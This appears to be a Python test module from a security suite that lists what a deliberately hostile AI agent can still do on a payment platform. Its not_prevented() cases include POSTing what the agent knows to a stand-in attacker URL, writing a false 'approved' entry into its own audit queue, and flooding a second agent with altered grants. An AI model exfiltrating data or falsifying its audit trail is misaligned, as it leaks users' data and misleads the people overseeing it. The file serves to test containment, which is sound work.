"""What the hostile agent can do: what its grant, policy and budget allow, and what nothing prevents."""

import json

from infra import naming
from tests.local.hostile.attempt import CONTEXT_CONNECTOR, FLOOD, NOWHERE, STRIPE_CONNECTOR, Attempt, OnChain, World
from tests.local.hostile.instructions import altered, aws, hand_off, http, tools


def allowed(world: World) -> list[Attempt]:
    """What grant, policy and budget allow: it shows that the other attempts do not fail because everything fails."""
    refund, read = {"charge": world.charge, "amount": 500}, {"charge": world.charge}
    timeline = {"entity": f"stripe:customer/{world.customer}", "type": "payment.refunded"}
    return [
        Attempt(
            "read its own charge", tools("charge.retrieve", read), world.charge, OnChain(STRIPE_CONNECTOR, "read", "")
        ),
        Attempt(
            "read its own customer's timeline",
            tools("timeline.read", timeline, connector="context"),
            "entries",
            OnChain(CONTEXT_CONNECTOR, "read", ""),
        ),
        Attempt(
            "refund 500 of its own charge",
            tools("refund.create", refund),
            "'amount': 500",
            OnChain(STRIPE_CONNECTOR, "effected", ""),
        ),
    ]


def not_prevented(world: World) -> list[Attempt]:
    """What nothing prevents: docs/security.md lists it, with its limits."""
    record = {
        "id": "made-up",
        "at": "2026-09-21T12:00:00.000000Z",
        "identity": "agent.hostile",
        "kind": "approved",
        "reason": "all is well",
    }
    own = aws(
        *("sqs", "send_message"),
        QueueUrl=f"{world.queues}/{naming.audit_queue('agent.hostile')}",
        MessageBody=json.dumps([{**record, "correlation": world.other_event}]),
        MessageGroupId="agent.hostile",
    )
    fresh = {"$": "fresh"}
    return [
        Attempt("send what it knows to any address", http("POST", world.attacker_url, "what it knows"), "200", NOWHERE),
        Attempt(
            "record untrue things under its own name",
            own,
            "allowed",
            OnChain("agent.hostile", "approved", "all is well"),
        ),
        Attempt(
            "wake a second agent past its limit, with grants that are not valid",
            {**hand_off(grant=altered(correlation=fresh), correlationid=fresh), "times": FLOOD},
            "allowed",
            OnChain("service.context", "denied", "published by agent.hostile: the grant was not minted here"),
        ),
        Attempt(
            "read its own charge for as long as its event lasts",
            tools("charge.retrieve", {"charge": world.charge}, times=10),
            world.charge,
            OnChain(STRIPE_CONNECTOR, "read", ""),
        ),
    ]
